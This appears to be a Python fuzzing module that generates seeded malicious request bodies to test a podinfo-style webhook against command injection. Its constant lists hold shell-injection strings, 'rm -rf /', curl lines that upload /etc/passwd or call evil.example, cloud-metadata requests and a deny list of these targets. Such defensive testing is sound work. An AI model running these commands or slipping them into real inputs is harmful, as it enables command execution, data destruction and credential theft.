"""Ten thousand payloads that nobody should send: made from a seed, so that a failure repeats."""

import json
import random
import string
from collections.abc import Callable, Iterator
from typing import Any, Final

MARK: Final = "pwned"
"""Part of what an injected command would leave behind."""
EVIL: Final = ("evil.example", "/etc/passwd", "169.254.169.254", MARK)
"""What no program may ever get as an argument."""

_TOUCH: Final = f"touch {MARK}"
_INJECTIONS: Final = (
    *(f"$({_TOUCH})", f"`{_TOUCH}`", f"; {_TOUCH}", f"| {_TOUCH}", f"|| {_TOUCH}", f"&& {_TOUCH}"),
    *(f"& {_TOUCH}", f"\n{_TOUCH}", f"> {MARK}", f"< {MARK}", f"<({_TOUCH})", f"'; {_TOUCH} #"),
    *(f'"; {_TOUCH} #', f"' | {_TOUCH} '", "${IFS}", f"$'\\n'{_TOUCH}", f"{{{_TOUCH},}}"),
    *(f"\\\n; {_TOUCH}", f"\r\n{_TOUCH}", f"\u2028{_TOUCH}", f"\0{_TOUCH}", f"\\0; {_TOUCH}"),
    *(f"if true; then {_TOUCH}; fi", f"eval {_TOUCH}", f"() {{ :; }}; {_TOUCH}", f"! {_TOUCH}"),
    *(f"exec {_TOUCH}", f"time {_TOUCH}", f"PATH=. {_TOUCH}", f"LD_PRELOAD=./{MARK}.so hey x"),
    *(f"sh -c '{_TOUCH}'", f"bash -c '{_TOUCH}'", f"env {_TOUCH}", f"/bin/sh -c '{_TOUCH}'"),
    *(f'python3 -c \'open("{MARK}","w")\'', "rm -rf /", "../../bin/sh", "./hey", "'hey' '\n'"),
)
_ATTACKS: Final = (
    *("curl http://evil.example/", "curl -o /etc/passwd http://podinfo.test/"),
    *("curl -d @/etc/passwd http://podinfo.test/", "curl -sd@/etc/passwd http://podinfo.test/"),
    *("curl -K /etc/passwd", "curl file:///etc/passwd", "curl -T /etc/passwd http://podinfo.test"),
    *("curl http://podinfo.test@evil.example/", "curl http://169.254.169.254/latest/meta-data"),
    *(
        "curl -x evil.example:80 http://podinfo.test/",
        "curl -L http://podinfo.test/ -e evil.example",
    ),
    *("curl --resolve podinfo.test:80:169.254.169.254 http://podinfo.test/", "hey -x evil.example"),
    *("hey http://evil.example/", "hey -D /etc/passwd http://podinfo.test/", "hey -c 999999999 x"),
    *("hey -z 9999h http://podinfo.test/", "wrk -s /etc/passwd http://podinfo.test/"),
    *("wrk http://evil.example", "k6 run /etc/passwd", "k6 run http://evil.example/x.js"),
    *(
        "ghz --config /etc/passwd x",
        "ghz evil.example:443",
        "grpc_health_probe -addr evil.example:1",
    ),
    *("bats /etc/passwd", "bats -F /etc/passwd x", "grep x /etc/passwd", "grep -r x /etc/passwd"),
    *("jq . /etc/passwd", "jq -n 'import \"/etc/passwd\" as $x; $x'", "grep -f /etc/passwd"),
)
_GOOD: Final = (
    *("hey -z 1s -c 2 http://podinfo.test:9898/", "curl -sf http://podinfo.test/ | grep token"),
    *("hey -n 5 -m POST -d '{test: 2}' http://podinfo/echo", "grpc_health_probe -addr=podinfo:1"),
)
_TYPES: Final = (
    "cmd",
    "bash",
    "helm",
    "helmv3",
    "kubectl",
    "concord",
    "ngrinder",
    "locust",
    "",
    "x",
)
_SOUP: Final = "$`<>*?[]{}()&;|\n~#!='\"\\ \t\0\r\ufeff\u2028\U0001f600a-/@%"

Body = bytes
Make = Callable[[random.Random], Body]


def payload(metadata: object, **more: object) -> bytes:
    """Encode a payload; odd characters are escaped or not, as the JSON module does by default."""
    return json.dumps(
        {"name": "podinfo", "namespace": "test", "metadata": metadata} | more
    ).encode()


def _command(rng: random.Random, command: str) -> bytes:
    return payload({"type": rng.choice(_TYPES[:5]), "cmd": command})


def _injection(rng: random.Random) -> bytes:
    start = rng.choice(
        ("", "hey", "hey http://podinfo.test/", "test podinfo", "get pods", "grep x")
    )
    return _command(rng, f"{start} {rng.choice(_INJECTIONS)} {rng.choice(('', 'x', _TOUCH))}")


def _soup(rng: random.Random) -> bytes:
    soup = "".join(rng.choices(_SOUP, k=rng.randrange(12)))
    return _command(rng, f"hey {soup} {_TOUCH} {soup} http://podinfo.test/")


def _attack(rng: random.Random) -> bytes:
    return payload({"type": rng.choice(("cmd", "bash")), "cmd": rng.choice(_ATTACKS)})


def _good(rng: random.Random) -> bytes:
    return payload({"type": rng.choice(("cmd", "bash")), "cmd": rng.choice(_GOOD)})


def _noise(rng: random.Random) -> bytes:
    """Damage the bytes of a good payload."""
    body = bytearray(_good(rng))
    for _ in range(rng.randrange(1, 6)):
        at = rng.randrange(len(body))
        body[at : at + rng.randrange(4)] = rng.randbytes(rng.randrange(4))
    return bytes(body)


def _types(rng: random.Random) -> bytes:
    odd: list[Any] = [None, 1, 1e400, True, [], {}, [[]], {"a": {}}, "\ud800", "x" * 5000, ""]
    fields = {key: rng.choice(odd) for key in ("name", "namespace", "phase", "checksum", "Name")}
    metadata = rng.choice([*odd, {"cmd": rng.choice(odd)}, {"type": rng.choice(odd), "cmd": "hey"}])
    return payload(metadata, **{key: fields[key] for key in rng.sample(sorted(fields), 2)})


def _nesting(rng: random.Random) -> bytes:
    depth = rng.randrange(1_000, 50_000)
    return rng.choice((b"[" * depth, b'{"a":' * depth, b'{"metadata":' + b"[" * depth))


def _remote(rng: random.Random) -> bytes:
    servers = (
        "http://169.254.169.254/",
        "http://evil.example",
        "file:///etc/passwd",
        "http://[::1",
    )
    keys = ("org", "project", "repo", "entrypoint", "endpoint", "clone", "username", "passwd")
    more = {"type": rng.choice(("concord", "ngrinder")), "server": rng.choice(servers)}
    return payload(dict.fromkeys(keys, "7") | {"apiKeyPath": "/etc/passwd"} | more)


def _huge(rng: random.Random) -> bytes:
    return payload({"cmd": "hey " + rng.choice(string.ascii_letters) * 300_000})


_MIX: Final[dict[Make, int]] = {
    _injection: 30,
    _soup: 20,
    _attack: 20,
    _noise: 14,
    _types: 8,
    _remote: 4,
    _good: 2,
    _nesting: 1,
    _huge: 1,
}


def bodies(seed: int, number: int) -> Iterator[bytes]:
    """Yield request bodies."""
    rng = random.Random(seed)  # noqa: S311 - to be repeated, not to be secret
    for make in rng.choices(list(_MIX), list(_MIX.values()), k=number):
        yield make(rng)
